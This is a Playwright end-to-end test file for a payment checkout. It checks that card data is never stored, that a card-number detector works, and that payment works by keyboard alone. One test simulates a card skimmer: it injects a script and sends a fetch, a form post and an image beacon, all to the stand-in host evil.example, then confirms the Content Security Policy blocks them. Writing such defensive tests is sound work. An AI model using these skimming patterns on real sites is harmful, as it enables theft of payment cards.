import type { Page } from '@playwright/test'
import { cardNumbersIn, CVC, everythingKept } from './support/card-data.ts'
import {
  acceptAndPay,
  atCheckout,
  CARDS,
  CHECKOUT,
  chooseWay,
  expectPaid,
  fieldOf,
  newPayer,
  orderButton,
  typeCard,
  wayOf,
} from './support/checkout.ts'
import { press, walkTo } from './support/keyboard.ts'
import { expect, test } from './support/payment-test.ts'
import { arrive, hold } from './support/person.ts'

test('case 100 what a person types into the fields is nowhere in the database and in nothing that the server said', async ({
  page,
  app,
  requests,
}) => {
  await atCheckout(page, app)
  await typeCard(page, CARDS.poor)
  await acceptAndPay(page)
  await page.getByRole('link', { name: 'Cambia metodo di pagamento' }).click()
  await chooseWay(page, /Braintree/)
  await typeCard(page, '4000000000001000')
  await orderButton(page).click()
  await expectPaid(page)
  const kept = await everythingKept(app)
  expect(kept).toContain('payment_attempt')
  expect(kept).toContain('payments/submit')
  expect(cardNumbersIn(kept)).toEqual([])
  expect(kept).not.toMatch(new RegExp(`\\b(?:cvc|cvv)\\W+${CVC}\\b`, 'i'))
  expect(await page.evaluate(() => JSON.stringify([localStorage, sessionStorage]))).not.toMatch(/4000|9995/)
  expect(requests.toBank).toBeGreaterThan(0)
})

test('case 100 the watch of these tests finds a card, in one piece, in groups and written for an address', () => {
  for (const text of [`{"n":"${CARDS.good}"}`, 'card=4242+4242+4242+4242'.replaceAll('+', ' '), '4000-0000-0000-9995'])
    expect(cardNumbersIn(text)).toHaveLength(1)
  expect(cardNumbersIn('4242424242424241 1795226559958 pi_4242424242424242 ab.4242424242424242')).toEqual([])
})

test.describe('a stranger’s script', () => {
  test.use({ allowedErrors: [/Content Security Policy|TrustedScriptURL/] })

  test('case 101 is stopped at the checkout, by its address and by who writes it', async ({ page, app }) => {
    await atCheckout(page, app)
    await expect(fieldOf(page, 'number')).toBeVisible()
    let isAsked = false
    await page.route('https://evil.example/**', async (route) => {
      isAsked = true
      await route.fulfill({ contentType: 'text/javascript', body: 'window.stolen = true' })
    })
    const stopped = await page.evaluate(async () => {
      const found: string[] = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => found.push(effectiveDirective))
      const script = document.createElement('script')
      try {
        script.src = 'https://evil.example/steal.js'
      } catch (error) {
        found.push((error as Error).name)
      }
      await fetch('https://evil.example/?card=1').catch(() => undefined)
      const form = document.createElement('form')
      Object.assign(form, { action: 'https://evil.example/', method: 'post' })
      document.body.append(form)
      const kept = new Promise<void>((resolve) =>
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          if (effectiveDirective === 'form-action') resolve()
        }),
      )
      form.submit()
      const image = new Image()
      const failed = new Promise((resolve) => image.addEventListener('error', resolve))
      image.src = 'https://evil.example/?card=1'
      await Promise.all([failed, kept])
      return found
    })
    for (const rule of ['TypeError', 'connect-src', 'form-action', 'img-src']) expect(stopped).toContain(rule)
    expect(isAsked).toBe(false)
    const response = await page.request.get(`${app.url}${CHECKOUT}`)
    expect(response.headers()['content-security-policy']).not.toMatch(/unsafe-(?:inline|eval)|https:/)
  })
})

/** Goes with Tab into the provider's field, which is a page of its own. */
async function typeByKeyboard(page: Page, part: 'number' | 'expiry' | 'cvc', text: string): Promise<void> {
  for (let stops = 0; stops < 20; stops++) {
    await page.keyboard.press('Tab')
    if (await fieldOf(page, part).evaluate((field) => field === document.activeElement && document.hasFocus())) break
  }
  await expect(fieldOf(page, part)).toBeFocused()
  await page.keyboard.type(text)
}

test('B-15 a card pays by the keyboard alone, the bank’s question among it', async ({ page, app }) => {
  const payer = await newPayer(app)
  await hold(app, payer.person, payer.stay, payer.codes)
  await arrive(page, payer.person)
  await page.goto(CHECKOUT)
  await expect(fieldOf(page, 'number')).toBeVisible()
  await walkTo(page, wayOf(page, /^Carta Credito/))
  await typeByKeyboard(page, 'number', CARDS.challenged)
  await typeByKeyboard(page, 'expiry', '1234')
  await typeByKeyboard(page, 'cvc', CVC)
  await press(page, page.getByRole('checkbox'), 'Space')
  await press(page, orderButton(page))
  const bank = page.getByRole('dialog', { name: 'Conferma della tua banca' }).frameLocator('iframe')
  const approve = bank.getByRole('button', { name: 'Approve' })
  await expect(approve).toBeVisible()
  for (let stops = 0; stops < 5; stops++) {
    await page.keyboard.press('Tab')
    if (await approve.evaluate((button) => button === document.activeElement && document.hasFocus())) break
  }
  await expect(approve).toBeFocused()
  await page.keyboard.press('Enter')
  await expectPaid(page)
})
